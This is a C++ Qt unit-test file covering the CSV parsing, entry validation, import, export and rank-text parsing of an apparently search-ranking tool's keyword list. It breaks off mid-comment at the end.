#include "exchange/Csv.h"
#include "exchange/EntryCheck.h"
#include "exchange/Export.h"
#include "exchange/Import.h"
#include "support/ScopedNobody.h"
#include "support/TestEnv.h"
#include "support/TestFiles.h"

#include <QDir>
#include <QFile>
#include <QSignalSpy>

#include <optional>

#include <sys/stat.h>
#include <unistd.h>

using namespace tw::exchange;

namespace {

using tw::test::readFile;
using tw::test::writeFile;
// "line:field|field" for a whole record, "line!unclosedLine" for one with an unclosed quote.
QStringList describe(std::string_view data, char separator = 0) {
    CsvReader reader(data, separator);
    CsvRecord record;
    QStringList out;
    while (reader.next(record)) {
        if (record.unclosedLine) {
            out << QStringLiteral("%1!%2").arg(record.line).arg(record.unclosedLine);
            continue;
        }
        QStringList fields;
        for (const std::string& f : record.fields)
            fields << QString::fromStdString(f);
        out << QString::number(record.line) + QLatin1Char(':') + fields.join(QLatin1Char('|'));
    }
    return out;
}

std::string_view view(const QByteArray& bytes) {
    return {bytes.constData(), size_t(bytes.size())};
}

// Entries as "url|keywords".
std::vector<EntryRow> listOf(const QList<QByteArray>& entries) {
    std::vector<EntryRow> rows;
    for (const QByteArray& e : entries) {
        const qsizetype bar = e.indexOf('|');
        EntryRow row;
        row.cells[ColUrl] = e.left(bar).toStdString();
        row.cells[ColKeywords] = e.mid(bar + 1).toStdString();
        for (int i = 0; i < kEngineCount; ++i)
            row.cells[EngineColumn(i)] = "-";
        rows.push_back(std::move(row));
    }
    return rows;
}

QList<QByteArray> entriesOf(const std::vector<EntryRow>& rows) {
    QList<QByteArray> out;
    for (const EntryRow& row : rows)
        out << QByteArray::fromStdString(row.cells[ColUrl] + "|" + row.cells[ColKeywords]);
    return out;
}

const std::array<std::string, kEngineCount> kLabels = {"Google", "Altavista", "Lycos", "Looksmart"};

using tw::test::ScopedNobody;
} // namespace

class TestExchange : public QObject {
    Q_OBJECT
private slots:
    void csvRecords_data() {
        QTest::addColumn<QByteArray>("data");
        QTest::addColumn<QStringList>("expected");
        QTest::newRow("LF") << QByteArray("a,b\nc,d\n") << QStringList{"1:a|b", "2:c|d"};
        QTest::newRow("CR LF") << QByteArray("a,b\r\nc,d\r\n") << QStringList{"1:a|b", "2:c|d"};
        QTest::newRow("lone CR") << QByteArray("a,b\rc,d") << QStringList{"1:a|b", "2:c|d"};
        QTest::newRow("no last line end") << QByteArray("a,b\nc") << QStringList{"1:a|b", "2:c"};
        QTest::newRow("empty fields") << QByteArray(",,\n") << QStringList{"1:||"};
        QTest::newRow("blank line kept as a record")
            << QByteArray("a\n\nb\n") << QStringList{"1:a", "2:", "3:b"};
        QTest::newRow("separator in quotes") << QByteArray("\"a,b\",c\n") << QStringList{"1:a,b|c"};
        QTest::newRow("doubled quotes")
            << QByteArray("\"say \"\"hi\"\"\",x") << QStringList{"1:say \"hi\"|x"};
        QTest::newRow("empty quoted field") << QByteArray("\"\",x") << QStringList{"1:|x"};
        QTest::newRow("LF in quotes counts a line")
            << QByteArray("\"a\nb\",c\nd,e\n") << QStringList{"1:a\nb|c", "3:d|e"};
        QTest::newRow("CR LF in quotes counts one line")
            << QByteArray("\"a\r\nb\",c\r\nd,e") << QStringList{"1:a\r\nb|c", "3:d|e"};
        QTest::newRow("semicolons")
            << QByteArray("a;b\nc;\"d;e\"\n") << QStringList{"1:a|b", "2:c|d;e"};
        QTest::newRow("more semicolons than commas")
            << QByteArray("a;b;c,d\n") << QStringList{"1:a|b|c,d"};
        QTest::newRow("comma on a tie") << QByteArray("a;b,c\n") << QStringList{"1:a;b|c"};
        QTest::newRow("separators in quotes do not count")
            << QByteArray("\"a,b,c\";d\n") << QStringList{"1:a,b,c|d"};
        QTest::newRow("separator from first non-blank line")
            << QByteArray("\n  \na;b\n") << QStringList{"1:", "2:  ", "3:a|b"};
        QTest::newRow("BOM") << QByteArray("\xEF\xBB\xBF"
                                           "a,b")
                             << QStringList{"1:a|b"};
        QTest::newRow("BOM and semicolon") << QByteArray("\xEF\xBB\xBF"
                                                         "a;b")
                                           << QStringList{"1:a|b"};
        QTest::newRow("blanks before an opening quote")
            << QByteArray("a, \"b,c\"") << QStringList{"1:a|b,c"};
        QTest::newRow("quote inside an unquoted field")
            << QByteArray("5\" pipe,x") << QStringList{"1:5\" pipe|x"};
        QTest::newRow("text after the closing quote")
            << QByteArray("\"ab\"cd,x") << QStringList{"1:abcd|x"};
        QTest::newRow("bytes as they are")
            << QByteArray("caf\xE9,\xFF\xFE")
            << QStringList{"1:caf\xEF\xBF\xBD|\xEF\xBF\xBD\xEF\xBF\xBD"};
        QTest::newRow("unclosed quote skips its line only")
            << QByteArray("a,b\n\"c,d\ne,f\n") << QStringList{"1:a|b", "2!2", "3:e|f"};
        QTest::newRow("unclosed after a closed multi-line field")
            << QByteArray("\"a\nb\",\"c\nd,e\nf,g") << QStringList{"1!2", "3:d|e", "4:f|g"};
        QTest::newRow("a lone quote closes an earlier one")
            << QByteArray("\"a\n\"b\r\n\"c") << QStringList{"1:a\nb", "3!3"};
        QTest::newRow("doubled quote then end")
            << QByteArray("\"a\"\"\nb,c") << QStringList{"1!1", "2:b|c"};
    }
    void csvRecords() {
        QFETCH(QByteArray, data);
        QFETCH(QStringList, expected);
        QCOMPARE(describe(view(data)), expected);
    }

    // A quote that never closes costs its own line only, however much follows it.
    void csvUnclosedQuoteBeforeManyLines() {
        QByteArray data = "\"never closed,k\n";
        const int lines = 50001;
        for (int i = 2; i <= lines; ++i)
            data += "a\"\"" + QByteArray::number(i) + ",k\"\"\n";
        CsvReader reader(view(data));
        CsvRecord record;
        QVERIFY(reader.next(record));
        QCOMPARE(record.unclosedLine, 1);
        for (int i = 2; i <= lines; ++i) {
            QVERIFY(reader.next(record));
            QCOMPARE(record.line, i);
            QCOMPARE(record.unclosedLine, 0);
            QCOMPARE(record.fields.size(), size_t(2));
        }
        QCOMPARE(record.fields[0], "a\"\"" + std::to_string(lines));
        QVERIFY(!reader.next(record));
    }

    void csvField_data() {
        QTest::addColumn<QByteArray>("field");
        QTest::addColumn<QByteArray>("expected");
        QTest::newRow("plain") << QByteArray("a.example") << QByteArray("a.example");
        QTest::newRow("empty") << QByteArray("") << QByteArray("");
        QTest::newRow("comma") << QByteArray("a,b") << QByteArray("\"a,b\"");
        QTest::newRow("semicolon") << QByteArray("a;b") << QByteArray("\"a;b\"");
        QTest::newRow("quote") << QByteArray("5\" pipe") << QByteArray("\"5\"\" pipe\"");
        QTest::newRow("LF") << QByteArray("a\nb") << QByteArray("\"a\nb\"");
        QTest::newRow("CR") << QByteArray("a\rb") << QByteArray("\"a\rb\"");
        QTest::newRow("leading blank") << QByteArray(" a") << QByteArray("\" a\"");
        QTest::newRow("blank inside") << QByteArray("blue widgets") << QByteArray("blue widgets");
        QTest::newRow("non-UTF-8 bytes") << QByteArray("caf\xE9") << QByteArray("caf\xE9");
    }
    void csvField() {
        QFETCH(QByteArray, field);
        QFETCH(QByteArray, expected);
        std::string out;
        appendCsvField(out, view(field));
        QCOMPARE(QByteArray::fromStdString(out), expected);
        // What was written reads back as it was.
        out += ",end";
        CsvReader reader(out, ',');
        CsvRecord record;
        QVERIFY(reader.next(record));
        QCOMPARE(record.fields.size(), size_t(2));
        QCOMPARE(QByteArray::fromStdString(record.fields[0]), field);
    }

    void checkEntry_data() {
        QTest::addColumn<QByteArray>("url");
        QTest::addColumn<QByteArray>("keywords");
        QTest::addColumn<QString>("message"); // empty: accepted
        const QString noUrl = QStringLiteral("Please enter a target URL to search for.");
        const QString badUrl = QStringLiteral(
            "Please enter a valid URL or part of a URL to search for.\n\nExample: example.com");
        const QString noKeywords =
            QStringLiteral("Please enter target keywords to use for the search.");
        QTest::newRow("good") << QByteArray("example.com") << QByteArray("blue widgets")
                              << QString();
        QTest::newRow("no URL") << QByteArray() << QByteArray("k") << noUrl;
        QTest::newRow("space in URL") << QByteArray("a b.com") << QByteArray("k") << badUrl;
        QTest::newRow("tab in URL") << QByteArray("a\tb.com") << QByteArray("k") << badUrl;
        QTest::newRow("line break in URL") << QByteArray("a\nb") << QByteArray("k") << badUrl;
        QTest::newRow("no keywords") << QByteArray("a.com") << QByteArray() << noKeywords;
        QTest::newRow("keywords on two lines")
            << QByteArray("a.com") << QByteArray("a\r\nb")
            << QStringLiteral("Please enter the target keywords on one line.");
    }
    void checkEntry() {
        QFETCH(QByteArray, url);
        QFETCH(QByteArray, keywords);
        QFETCH(QString, message);
        QString shown = QStringLiteral("unset");
        QCOMPARE(tw::exchange::checkEntry(view(url), view(keywords), &shown), message.isEmpty());
        QCOMPARE(shown, message);
    }

    // The Add dialog's URL rule: tabs and the like as typed, but never a space, nor a line
    // break that would split the entry's line in the data file.
    void checkTypedUrl_data() {
        QTest::addColumn<QByteArray>("url");
        QTest::addColumn<QByteArray>("keywords");
        QTest::addColumn<bool>("accepted");
        QTest::newRow("tab") << QByteArray("a\tb/c?d") << QByteArray(" ") << true;
        QTest::newRow("space") << QByteArray("a b") << QByteArray("k") << false;
        QTest::newRow("line feed") << QByteArray("a\nb") << QByteArray("k") << false;
        QTest::newRow("carriage return") << QByteArray("a\rb") << QByteArray("k") << false;
        QTest::newRow("keywords on two lines")
            << QByteArray("a.com") << QByteArray("k\nl") << false;
    }
    void checkTypedUrl() {
        QFETCH(QByteArray, url);
        QFETCH(QByteArray, keywords);
        QFETCH(bool, accepted);
        QCOMPARE(tw::exchange::checkEntry(view(url), view(keywords), nullptr,
                                          tw::exchange::UrlRule::NoSpaces),
                 accepted);
    }

    void importCsv_data() {
        QTest::addColumn<QList<QByteArray>>("current");
        QTest::addColumn<QByteArray>("file");
        QTest::addColumn<QList<QByteArray>>("added");
        QTest::addColumn<int>("duplicates");
        QTest::addColumn<QList<int>>("skippedLines");
        using L = QList<QByteArray>;
        QTest::newRow("two columns, no header")
            << QList<QByteArray>() << QByteArray("a.com,blue widgets\r\nb.com,red\r\n")
            << L{"a.com|blue widgets", "b.com|red"} << 0 << QList<int>{};
        QTest::newRow("extra columns ignored")
            << QList<QByteArray>() << QByteArray("a.com,k,note,more\n") << L{"a.com|k"} << 0
            << QList<int>{};
        QTest::newRow("header in any position and case")
            << QList<QByteArray>() << QByteArray("Keywords;Notes;URL\nblue;x;a.com\n")
            << L{"a.com|blue"} << 0 << QList<int>{};
        QTest::newRow("header after blank lines")
            << QList<QByteArray>() << QByteArray("\n\n url , keywords \na.com,k\n") << L{"a.com|k"}
            << 0 << QList<int>{};
        QTest::newRow("exported header")
            << QList<QByteArray>()
            << QByteArray("row,url,keywords,Google text,Google rank,Google page\r\n"
                          "1,a.com,k,Rank 3 / Page 1,3,1\r\n")
            << L{"a.com|k"} << 0 << QList<int>{};
        QTest::newRow("header row only")
            << QList<QByteArray>() << QByteArray("url,keywords\n") << L{} << 0 << QList<int>{};
        QTest::newRow("a header needs both names")
            << QList<QByteArray>() << QByteArray("url,kw\na.com,k\n") << L{"url|kw", "a.com|k"} << 0
            << QList<int>{};
        QTest::newRow("blanks trimmed")
            << QList<QByteArray>() << QByteArray("  a.com\t, blue widgets \n")
            << L{"a.com|blue widgets"} << 0 << QList<int>{};
        QTest::newRow("already in the list, blanks aside")
            << QList<QByteArray>{"a.com|blue", " b.com |red "}
            << QByteArray("a.com,blue\nb.com,red\nc.com,blue\n") << L{"c.com|blue"} << 2
            << QList<int>{};
        QTest::newRow("exact bytes: case and inner blanks count")
            << QList<QByteArray>{"a.com|blue widgets"}
            << QByteArray("A.com,blue widgets\na.com,blue  widgets\n")
            << L{"A.com|blue widgets", "a.com|blue  widgets"} << 0 << QList<int>{};
        QTest::newRow("duplicates within the file")
            << QList<QByteArray>() << QByteArray("a.com,k\na.com,k\n\"a.com\",\" k\"\n")
            << L{"a.com|k"} << 2 << QList<int>{};
        QTest::newRow("same keywords, other URL")
            << QList<QByteArray>{"a.com|k"} << QByteArray("ab.com,k\na.co,mk\n")
            << L{"ab.com|k", "a.co|mk"} << 0 << QList<int>{};
        QTest::newRow("blank lines passed over silently")
            << QList<QByteArray>() << QByteArray("\n   \n,,\n , \na.com,k\n\n") << L{"a.com|k"} << 0
            << QList<int>{};
        QTest::newRow("bad lines with their numbers")
            << QList<QByteArray>()
            << QByteArray("a.com,k\n"          // 1
                          ",no url\n"          // 2
                          "a b.com,blank\n"    // 3
                          "c.com\n"            // 4: no keywords
                          "d.com,\n"           // 5
                          "e.com,ok\n"         // 6
                          "\"f.com,unclosed\n" // 7
                          "g.com,ok\n")        // 8
            << L{"a.com|k", "e.com|ok", "g.com|ok"} << 0 << QList<int>{2, 3, 4, 5, 7};
        QTest::newRow("numbers after line breaks in quotes")
            << QList<QByteArray>()
            << QByteArray("a.com,\"two\nlines\"\n"            // 1-2: keywords on two lines
                          "b.com,\"k\",\"note\non\nthree\"\n" // 3-5
                          ",bad\n")                           // 6
            << L{"b.com|k"} << 0 << QList<int>{1, 6};
        QTest::newRow("trailing line break in a quoted field is trimmed")
            << QList<QByteArray>() << QByteArray("\"a.com\n\",\"k\r\n\"\n") << L{"a.com|k"} << 0
            << QList<int>{};
        QTest::newRow("semicolons with quoted separators")
            << QList<QByteArray>() << QByteArray("a.com;\"cars; used\"\nb.com;\"x, y\"\n")
            << L{"a.com|cars; used", "b.com|x, y"} << 0 << QList<int>{};
        QTest::newRow("BOM and header")
            << QList<QByteArray>() << QByteArray("\xEF\xBB\xBFURL,Keywords\r\na.com,k\r\n")
            << L{"a.com|k"} << 0 << QList<int>{};
        QTest::newRow("bytes as they are")
            << QList<QByteArray>{"caf\xE9.com|cr\xE8me"}
            << QByteArray("caf\xE9.com,cr\xE8me\ncaf\xC3\xA9.com,cr\xC3\xA8me\n")
            << L{"caf\xC3\xA9.com|cr\xC3\xA8me"} << 1 << QList<int>{};
        QTest::newRow("empty file")
            << QList<QByteArray>() << QByteArray() << L{} << 0 << QList<int>{};
    }
    void importCsv() {
        QFETCH(QList<QByteArray>, current);
        QFETCH(QByteArray, file);
        QFETCH(QList<QByteArray>, added);
        QFETCH(int, duplicates);
        QFETCH(QList<int>, skippedLines);
        ImportResult result;
        QString error;
        QVERIFY(tw::exchange::importCsv(file, listOf(current), result, &error));
        QCOMPARE(entriesOf(result.rows), added);
        QCOMPARE(result.added, int(added.size()));
        QCOMPARE(result.duplicates, duplicates);
        QCOMPARE(result.skipped, int(skippedLines.size()));
        QCOMPARE(QList<int>(result.skippedLines.begin(), result.skippedLines.end()), skippedLines);
        for (const EntryRow& row : result.rows) {
            for (int e = 0; e < kEngineCount; ++e)
                QCOMPARE(row.cells[EngineColumn(e)], std::string("-"));
        }
    }

    void importPlainText_data() {
        QTest::addColumn<QList<QByteArray>>("current");
        QTest::addColumn<QByteArray>("file");
        QTest::addColumn<QList<QByteArray>>("added");
        QTest::addColumn<int>("duplicates");
        using L = QList<QByteArray>;
        QTest::newRow("LF") << QList<QByteArray>() << QByteArray("blue widgets\nred cars\n")
                            << L{"t.com|blue widgets", "t.com|red cars"} << 0;
        QTest::newRow("CR LF, no last line end") << QList<QByteArray>() << QByteArray("blue\r\nred")
                                                 << L{"t.com|blue", "t.com|red"} << 0;
        QTest::newRow("commas and quotes are keywords")
            << QList<QByteArray>() << QByteArray("cars, used\n\"quoted\"\n")
            << L{"t.com|cars, used", "t.com|\"quoted\""} << 0;
        QTest::newRow("blank lines and blanks trimmed")
            << QList<QByteArray>() << QByteArray("\n  blue \n\t\n\r\n") << L{"t.com|blue"} << 0;
        QTest::newRow("BOM") << QList<QByteArray>()
                             << QByteArray("\xEF\xBB\xBF"
                                           "blue\n")
                             << L{"t.com|blue"} << 0;
        QTest::newRow("duplicates in the list and the file")
            << QList<QByteArray>{"t.com|blue", "other.com|red"} << QByteArray("blue\nred\nred\n")
            << L{"t.com|red"} << 2;
    }
    void importPlainText() {
        QFETCH(QList<QByteArray>, current);
        QFETCH(QByteArray, file);
        QFETCH(QList<QByteArray>, added);
        QFETCH(int, duplicates);
        ImportResult result;
        QVERIFY(tw::exchange::importPlainText(file, "t.com", listOf(current), result));
        QCOMPARE(entriesOf(result.rows), added);
        QCOMPARE(result.duplicates, duplicates);
        QCOMPARE(result.skipped, 0);
    }

    void importPlainTextRefusesTarget_data() {
        QTest::addColumn<QByteArray>("target");
        QTest::newRow("empty") << QByteArray();
        QTest::newRow("blank inside") << QByteArray("a b.com");
        QTest::newRow("leading blank") << QByteArray(" a.com");
    }
    void importPlainTextRefusesTarget() {
        QFETCH(QByteArray, target);
        ImportResult result;
        result.added = 5;
        QString error;
        QVERIFY(!tw::exchange::importPlainText("blue\n", target.toStdString(), {}, result, &error));
        QVERIFY(!error.isEmpty());
        QCOMPARE(result.added, 0);
        QVERIFY(result.rows.empty());
    }

    // Too many new entries would exhaust memory; the file is refused whole.
    void importRefusesTooManyEntries() {
        QByteArray file;
        file.reserve(12 * int(kMaxImportEntries));
        for (size_t i = 0; i <= kMaxImportEntries; ++i)
            file += QByteArray::number(qulonglong(i)) + '\n';
        ImportResult result;
        QString error;
        QVERIFY(!tw::exchange::importPlainText(file, "t.com", {}, result, &error));
        QVERIFY2(error.contains(QStringLiteral("nothing was added")), qPrintable(error));
        QVERIFY(result.rows.empty());
        QCOMPARE(result.added, 0);
    }

    void summary_data() {
        QTest::addColumn<int>("added");
        QTest::addColumn<int>("duplicates");
        QTest::addColumn<QList<int>>("skipped");
        QTest::addColumn<QString>("summary");
        QTest::addColumn<QString>("lines");
        QTest::newRow("none skipped")
            << 3 << 2 << QList<int>{} << "3 entries added, 2 already in the list, 0 lines skipped"
            << QString();
        QTest::newRow("one of each")
            << 1 << 1 << QList<int>{4} << "1 entry added, 1 already in the list, 1 line skipped"
            << "skipped lines: 4";
        QTest::newRow("ten shown") << 0 << 0 << QList<int>{1, 2, 3, 4, 5, 6, 7, 8, 9, 10}
                                   << "0 entries added, 0 already in the list, 10 lines skipped"
                                   << "skipped lines: 1, 2, 3, 4, 5, 6, 7, 8, 9, 10";
        QTest::newRow("more than shown")
            << 1200 << 0 << QList<int>{3, 9, 12, 13, 14, 15, 16, 17, 18, 19, 20}
            << QStringLiteral("%L1 entries added, 0 already in the list, 11 lines skipped")
                   .arg(1200)
            << QStringLiteral("skipped lines: 3, 9, 12, 13, 14, 15, 16, 17, 18, 19 \u2026");
    }
    void summary() {
        QFETCH(int, added);
        QFETCH(int, duplicates);
        QFETCH(QList<int>, skipped);
        QFETCH(QString, summary);
        QFETCH(QString, lines);
        ImportResult result;
        result.added = added;
        result.duplicates = duplicates;
        result.skipped = int(skipped.size());
        result.skippedLines.assign(skipped.begin(), skipped.end());
        QCOMPARE(result.summary(), summary);
        QCOMPARE(result.skippedLinesText(), lines);
    }

    // Skipped line numbers are kept up to a limit; the count goes on.
    void skippedLinesBounded() {
        QByteArray file;
        for (size_t i = 0; i < kMaxListedSkips + 5; ++i)
            file += ",no url\n";
        ImportResult result;
        QVERIFY(tw::exchange::importCsv(file, {}, result));
        QCOMPARE(result.skipped, int(kMaxListedSkips + 5));
        QCOMPARE(result.skippedLines.size(), kMaxListedSkips);
        QCOMPARE(result.skippedLines.back(), int(kMaxListedSkips));
    }

    void detectFormat_data() {
        QTest::addColumn<QString>("name");
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<bool>("csv");
        QTest::newRow(".csv") << "list.csv" << QByteArray("blue widgets\n") << true;
        QTest::newRow(".CSV") << "list.CSV" << QByteArray("blue widgets\n") << true;
        QTest::newRow(".txt") << "list.txt" << QByteArray("a.com,k\n") << false;
        QTest::newRow("header") << "list" << QByteArray("\nKeywords;URL\n") << true;
        QTest::newRow("URL then separator") << "list" << QByteArray("a.com;k\n") << true;
        QTest::newRow("phrases") << "list" << QByteArray("blue widgets\nred\n") << false;
        QTest::newRow("phrase with a comma") << "list" << QByteArray("cars, used\n") << false;
        QTest::newRow("empty") << "list.dat" << QByteArray() << false;
    }
    void detectFormat() {
        QFETCH(QString, name);
        QFETCH(QByteArray, bytes);
        QFETCH(bool, csv);
        QCOMPARE(tw::exchange::detectFormat(name, bytes) == ImportFormat::Csv, csv);
    }

    void unreadableFile_data() {
        QTest::addColumn<QString>("kind");
        QTest::addColumn<QString>("reason");
        QTest::newRow("missing") << "missing"
                                 << "No such file or directory";
        QTest::newRow("folder") << "folder"
                                << "Is a directory";
        QTest::newRow("too big") << "big"
                                 << "larger than 256 MiB";
        QTest::newRow("no permission") << "unreadable"
                                       << "ermission";
    }
    void unreadableFile() {
        QFETCH(QString, kind);
        QFETCH(QString, reason);
        tw::test::ScopedWorkDir dir;
        QString path = dir.file(QStringLiteral("import.csv"));
        if (kind == QLatin1String("folder")) {
            QVERIFY(QDir().mkdir(path));
        } else if (kind == QLatin1String("big")) {
            QFile f(path);
            QVERIFY(f.open(QIODevice::WriteOnly));
            QVERIFY(f.resize(kMaxImportFileSize + 1)); // sparse: no disk space used
        } else if (kind == QLatin1String("unreadable")) {
            writeFile(path, "a.com,k\n");
            QVERIFY(::chmod(QFile::encodeName(dir.path()).constData(), 0755) == 0);
            QVERIFY(::chmod(QFile::encodeName(path).constData(), 0) == 0);
        }
        std::optional<ScopedNobody> nobody;
        if (kind == QLatin1String("unreadable")) {
            // Reaching the folder is not what is tried: only the file's own bits may refuse.
            if (geteuid() == 0 && !tw::test::NobodyMayReach(dir.path(), X_OK))
                QSKIP(tw::test::NobodyCannotReach(dir.path()).constData());
            nobody.emplace();
        }
        if (nobody && !nobody->binds())
            QSKIP("permission bits do not bind for this user");
        ImportResult result;
        QString error;
        QVERIFY(
            !tw::exchange::importFile(path, std::string(), listOf({"x.com|k"}), result, &error));
        QVERIFY2(error.contains(reason), qPrintable(error));
        QVERIFY2(error.contains(QStringLiteral("import.csv")), qPrintable(error));
        QVERIFY(result.rows.empty());
        QCOMPARE(result.added, 0);
    }

    void importFileFormats() {
        tw::test::ScopedWorkDir dir;
        writeFile(dir.file("list.csv"), "a.com,k\n");
        writeFile(dir.file("phrases.txt"), "blue\nred\n");
        ImportResult result;
        QString error;
        QVERIFY(importFile(dir.file("list.csv"), std::string(), {}, result, &error));
        QCOMPARE(entriesOf(result.rows), QList<QByteArray>{"a.com|k"});
        // Plain text needs a target URL; a given one makes any file plain text.
        QVERIFY(!importFile(dir.file("phrases.txt"), std::string(), {}, result, &error));
        QVERIFY2(error.contains(QStringLiteral("target URL")), qPrintable(error));
        QVERIFY(importFile(dir.file("list.csv"), "t.com", {}, result, &error));
        QCOMPARE(entriesOf(result.rows), QList<QByteArray>{"t.com|a.com,k"});
    }

    // The command's import: the list is saved only when something was added, and left as it
    // was when either file cannot be read.
    void importIntoDataFile_data() {
        QTest::addColumn<QString>("importName");
        QTest::addColumn<QByteArray>("importBytes"); // written unless empty
        QTest::addColumn<bool>("dataFileIsFolder");
        QTest::addColumn<int>("status");
        QTest::addColumn<int>("added");
        using S = DataFileImport;
        QTest::newRow("adds") << "new.csv" << QByteArray("old.com,k\nnew.com,k\n") << false
                              << int(S::Done) << 1;
        QTest::newRow("nothing new")
            << "same.csv" << QByteArray("old.com,k\n") << false << int(S::Done) << 0;
        QTest::newRow("import file missing")
            << "missing.csv" << QByteArray() << false << int(S::ImportFileError) << 0;
        QTest::newRow("plain text without a target")
            << "phrases.txt" << QByteArray("blue\n") << false << int(S::ImportFileError) << 0;
        QTest::newRow("data file unreadable")
            << "new.csv" << QByteArray("new.com,k\n") << true << int(S::DataFileError) << 0;
    }
    void importIntoDataFile() {
        QFETCH(QString, importName);
        QFETCH(QByteArray, importBytes);
        QFETCH(bool, dataFileIsFolder);
        QFETCH(int, status);
        QFETCH(int, added);
        tw::test::ScopedWorkDir dir;
        const QString dataPath = dir.file(QStringLiteral("tallowick.dat"));
        // LF line ends: a save would write CR LF, so an unchanged file shows it was not saved.
        const QByteArray data = "old.com\nk\n-\n-\n-\n-\n";
        if (dataFileIsFolder)
            QVERIFY(QDir().mkdir(dataPath));
        else
            writeFile(dataPath, data);
        if (!importBytes.isEmpty())
            writeFile(dir.file(importName), importBytes);
        datafile::CDataFileSession session(dataPath);
        QCOMPARE(session.Lock(), datafile::CDataFileSession::LockResult::Locked);
        ImportResult result;
        QString error;
        QCOMPARE(int(tw::exchange::importIntoDataFile(session, dir.file(importName), std::string(),
                                                      result, &error)),
                 status);
        QCOMPARE(result.added, added);
        QCOMPARE(error.isEmpty(), status == int(DataFileImport::Done));
        if (dataFileIsFolder)
            return;
        if (added == 0) {
            QCOMPARE(readFile(dataPath), data);
            return;
        }
        std::vector<EntryRow> rows;
        QVERIFY(datafile::LoadEntries(dataPath, rows));
        QCOMPARE(entriesOf(rows), (QList<QByteArray>{"old.com|k", "new.com|k"}));
        QCOMPARE(rows[1].cells[ColNumber], std::string("2"));
        QCOMPARE(rows[1].cells[EngineColumn(Google)], std::string("-"));
    }

    void parseRankText_data() {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<int>("rank"); // 0: no rank
        QTest::addColumn<int>("page");
        QTest::newRow("ranked") << QByteArray("Rank 15 / Page 2") << 15 << 2;
        QTest::newRow("big") << QByteArray("Rank 999 / Page 100") << 999 << 100;
        QTest::newRow("not found") << QByteArray("not found") << 0 << 0;
        QTest::newRow("error") << QByteArray("error") << 0 << 0;
        QTest::newRow("dash") << QByteArray("-") << 0 << 0;
        QTest::newRow("empty") << QByteArray() << 0 << 0;
        QTest::newRow("trailing text") << QByteArray("Rank 1 / Page 1 *") << 0 << 0;
        QTest::newRow("no digits") << QByteArray("Rank  / Page 1") << 0 << 0;
        QTest::newRow("too many digits") << QByteArray("Rank 12345678901 / Page 1") << 0 << 0;
    }
    void parseRankText() {
        QFETCH(QByteArray, text);
        QFETCH(int, rank);
        QFETCH(int, page);
        int r = -1;
        int p = -1;
        QCOMPARE(tw::exchange::parseRankText(view(text), r, p), rank != 0);
        if (rank) {
            QCOMPARE(r, rank);
            QCOMPARE(p, page);
        }
    }

    void exportCsv() {
        std::vector<EntryRow> rows = listOf({"a.com|blue widgets", "b.com|cars, \"used\""});
        rows[0].cells[EngineColumn(Google)] = "Rank 7 / Page 1";
        rows[0].cells[EngineColumn(AltaVista)] = "not found";
        rows[0].cells[EngineColumn(Lycos)] = "error";
        rows[1].cells[EngineColumn(LookSmart)] = "Rank 21 / Page 3";
        rows[1].options = {"us", "en", "mobile", "Austin,Texas", "acme, shoes"};
        const QByteArray expected =
            "row,url,keywords,Google text,Google rank,Google page,Altavista text,Altavista rank,"
            "Altavista page,Lycos text,Lycos rank,Lycos page,Looksmart text,Looksmart rank,"
            "Looksmart page,country,language,device,location,tags\r\n"
            "1,a.com,blue widgets,Rank 7 / Page 1,7,1,not found,,,error,,,-,,,,,,,\r\n"
            "2,b.com,\"cars, \"\"used\"\"\",-,,,-,,,-,,,Rank 21 / Page 3,21,3,us,en,mobile,"
            "\"Austin,Texas\",\"acme, shoes\"\r\n";
        QCOMPARE(tw::exchange::exportCsv(rows, kLabels), expected);
        // The engine table's names are the list's column captions.
        QCOMPARE(tw::exchange::engineSlotLabels(), kLabels);
        QCOMPARE(tw::exchange::exportCsv({}, {"a,b", "c", "d", "e"}).left(26),
                 QByteArray("row,url,keywords,\"a,b text"));
    }

    // An exported list imported back into the same list adds nothing; into an empty one it
    // gives back every URL and keywords, whatever bytes they hold.
    void roundTrip() {
        std::vector<EntryRow> rows =
            listOf({"a.com|blue widgets", "b.com|cars, used", "c.com|5\" pipe; \"best\"",
                    "d.com|caf\xC3\xA9", "e.com|caf\xE9", "url|keywords", "f.com|=1+2"});
        rows[1].options = {"gb", "en", "mobile", "Leeds,England", "acme, shoes"};
        const QByteArray csv = tw::exchange::exportCsv(rows, kLabels);
        ImportResult again;
        QVERIFY(tw::exchange::importCsv(csv, rows, again));
        QCOMPARE(again.added, 0);
        QCOMPARE(again.duplicates, int(rows.size()));
        QCOMPARE(again.skipped, 0);
        ImportResult fresh;
        QVERIFY(tw::exchange::importCsv(csv, {}, fresh));
        QCOMPARE(entriesOf(fresh.rows), entriesOf(rows));
        QCOMPARE(fresh.rows[1].options, rows[1].options);
    }

    // The options columns a header names become the entries' options; tag, client and group
    // are tags too. A keyword on a phone is another entry than on a desktop.
    void importOptions_data() {
        QTest::addColumn<QByteArray>("file");
        QTest::addColumn<QByteArray>("options"); // country|language|device|location|tags, by row
        QTest::addColumn<QList<int>>("skippedLines");
        QTest::newRow("all columns")
            << QByteArray("url,keywords,country,language,device,location,tags\n"
                          "a.com,k,GB,en,Mobile,\"Leeds,England\",\"x, y\"\n")
            << QByteArray("gb|en|mobile|Leeds,England|x, y") << QList<int>{};
        QTest::newRow("client and group as tags")
            << QByteArray("Client,URL,Keywords,Group\nAcme,a.com,k,shoes\n")
            << QByteArray("||||Acme, shoes") << QList<int>{};
        QTest::newRow("device tells entries apart")
            << QByteArray("url,keywords,device\na.com,k,\na.com,k,mobile\na.com,k,desktop\n")
            << QByteArray("||||;||mobile||") << QList<int>{};
        QTest::newRow("bad codes skip the line")
            << QByteArray("url,keywords,country,device\na.com,k,usa,\nb.com,k,,tablet\n"
                          "c.com,k,de,\n")
            << QByteArray("de||||") << QList<int>{2, 3};
        QTest::newRow("no header: two columns only")
            << QByteArray("a.com,k,gb,en\n") << QByteArray("||||") << QList<int>{};
    }
    void importOptions() {
        QFETCH(QByteArray, file);
        QFETCH(QByteArray, options);
        QFETCH(QList<int>, skippedLines);
        ImportResult result;
        QVERIFY(tw::exchange::importCsv(file, {}, result));
        QList<QByteArray> got;
        for (const EntryRow& row : result.rows) {
            const datafile::EntryOptions& o = row.options;
            got << QByteArray::fromStdString(o.country + "|" + o.language + "|" + o.device + "|" +
                                             o.location + "|" + o.tags);
        }
        QCOMPARE(got.join(';'), options);
        QCOMPARE(QList<int>(result.skippedLines.begin(), result.skippedLines.end()), skippedLines);
    }

    // A cell a spreadsheet would run gets an apostrophe before it, whichever column it is in,
